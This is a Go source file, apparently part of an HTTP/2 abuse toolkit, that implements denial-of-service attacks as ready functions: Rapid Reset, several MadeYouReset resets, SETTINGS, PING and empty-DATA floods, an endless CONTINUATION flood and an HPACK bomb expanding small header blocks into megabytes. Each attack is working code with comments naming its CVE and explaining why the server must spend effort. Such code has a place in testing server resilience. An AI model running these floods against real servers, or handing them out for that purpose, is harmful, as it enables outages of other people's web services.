package h2abuse

import (
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The attacks. Each is an Attack: one round, repeated by Run up to a cap.

// RapidReset (CVE-2023-44487) opens a stream with a GET of path (HEADERS
// with END_STREAM) and cancels it at once with RST_STREAM(CANCEL).
func RapidReset(path string) Attack {
	return func(c *Conn, _ int) error {
		id := c.NewStream()
		if err := c.Headers(id, c.Request("GET", path), true); err != nil {
			return err
		}
		return c.RSTStream(id, http2.ErrCodeCancel)
	}
}

// ZeroWindowUpdate (MadeYouReset, CVE-2025-8671) opens a stream with a GET
// of path left open (no END_STREAM) and sends WINDOW_UPDATE with an
// increment of 0 on it, which the server must answer with a stream error
// (PROTOCOL_ERROR, RFC 9113 section 6.9): the server resets the stream.
func ZeroWindowUpdate(path string) Attack {
	return func(c *Conn, _ int) error {
		id := c.NewStream()
		if err := c.Headers(id, c.Request("GET", path), false); err != nil {
			return err
		}
		return c.WindowUpdate(id, 0)
	}
}

// DataAfterEndStream (MadeYouReset) sends a complete GET of path (HEADERS
// with END_STREAM) and then a DATA frame on the same, now half-closed
// (remote), stream: a stream error STREAM_CLOSED (RFC 9113 section 5.1).
func DataAfterEndStream(path string) Attack {
	return func(c *Conn, _ int) error {
		id := c.NewStream()
		if err := c.Headers(id, c.Request("GET", path), true); err != nil {
			return err
		}
		return c.Data(id, false, []byte("x"))
	}
}

// MalformedRequest sends a GET of path carrying a connection-specific
// field ("connection: close"), which makes the request malformed (RFC
// 9113 section 8.2.2): a stream error PROTOCOL_ERROR, the server resets
// the stream (section 8.1.1 lets it answer 400 first). Repeated, it is MadeYouReset; repeated by a client that does
// not read, it is the reset flood of CVE-2019-9514.
func MalformedRequest(path string) Attack {
	return func(c *Conn, _ int) error {
		id := c.NewStream()
		return c.Headers(id, c.Request("GET", path, hpack.HeaderField{Name: "connection", Value: "close"}), true)
	}
}

// Requests sends a GET of path on a new stream each round, with
// END_STREAM if endStream (a complete request), without it otherwise
// (the request is never finished: the stream stays open).
func Requests(path string, endStream bool) Attack {
	return func(c *Conn, _ int) error {
		return c.Headers(c.NewStream(), c.Request("GET", path), endStream)
	}
}

// SettingsFlood (CVE-2019-9515) sends a SETTINGS frame (ENABLE_PUSH 0,
// which changes nothing) each round; the server must acknowledge each.
func SettingsFlood() Attack {
	return func(c *Conn, _ int) error {
		return c.Settings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	}
}

// PingFlood (CVE-2019-9512) sends a PING each round; the server must
// acknowledge each.
func PingFlood() Attack {
	return func(c *Conn, round int) error { return c.Ping(uint64(round)) }
}

// EmptyDataFlood (CVE-2019-9518) opens a stream with a GET of path left
// open (no END_STREAM) in round 0 and sends a zero-length DATA frame without END_STREAM
// on it in every later round.
func EmptyDataFlood(path string) Attack {
	var id uint32
	return func(c *Conn, round int) error {
		if round == 0 {
			id = c.NewStream()
			return c.Headers(id, c.Request("GET", path), false)
		}
		return c.Data(id, false, nil)
	}
}

// ContinuationFlood (the CONTINUATION floods of April 2024) sends a
// HEADERS frame without END_HEADERS in round 0 (a GET of path) and a
// CONTINUATION frame without END_HEADERS in every later round, never
// ending the header block. Each CONTINUATION carries the next size bytes
// of an endless run of valid HPACK literal fields ("x-flood: aaa...", 1000
// bytes of value, never indexed), so that the header list grows by about
// size bytes a frame: size 16384 fills frames; size 1 sends many tiny
// ones; size 0 sends empty ones (the list never grows, CVE-2019-9518).
// Fence ends the block at the end of the field under way.
func ContinuationFlood(path string, size int) Attack {
	field := literalField("x-flood", strings.Repeat("a", 1000))
	block := &openBlock{}
	return func(c *Conn, round int) error {
		if round == 0 {
			block.id = c.NewStream()
			c.block = block
			return c.HeadersFragment(block.id, c.Encode(c.Request("GET", path)), false, false)
		}
		var frag []byte
		for len(frag) < size {
			if len(block.rest) == 0 {
				block.rest = field
			}
			n := min(size-len(frag), len(block.rest))
			frag = append(frag, block.rest[:n]...)
			block.rest = block.rest[n:]
		}
		return c.Continuation(block.id, frag, false)
	}
}

// openBlock is a header block an attack left open: its stream, and the
// bytes that complete the field under way (none at a field boundary).
type openBlock struct {
	id   uint32
	rest []byte
}

// literalField returns the HPACK encoding of name: value as a literal
// never indexed, which leaves the dynamic table alone so that it can be
// repeated.
func literalField(name, value string) []byte {
	var b sinkBuffer
	_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true})
	return b
}

// sinkBuffer is an io.Writer appending to itself.
type sinkBuffer []byte

func (b *sinkBuffer) Write(p []byte) (int, error) {
	*b = append(*b, p...)
	return len(p), nil
}

// HPACKBomb sends, on a new stream each round, a GET of path whose header
// block holds refs copies of "x-bomb: <valueLen bytes>": the first round's
// first copy is a literal that enters the dynamic table, every other copy
// a one-byte reference to it. The block stays small (about refs bytes)
// while the header list it decodes to is refs × (valueLen + 38) bytes
// (RFC 7541 section 4.1 counts 32 bytes of overhead a field): with refs
// 4000 and valueLen 3000, 4 KiB on the wire decode to 12 MB.
func HPACKBomb(path string, refs, valueLen int) Attack {
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", valueLen)}
	return func(c *Conn, _ int) error {
		fields := c.Request("GET", path)
		for range refs {
			fields = append(fields, bomb)
		}
		return c.Headers(c.NewStream(), fields, true)
	}
}
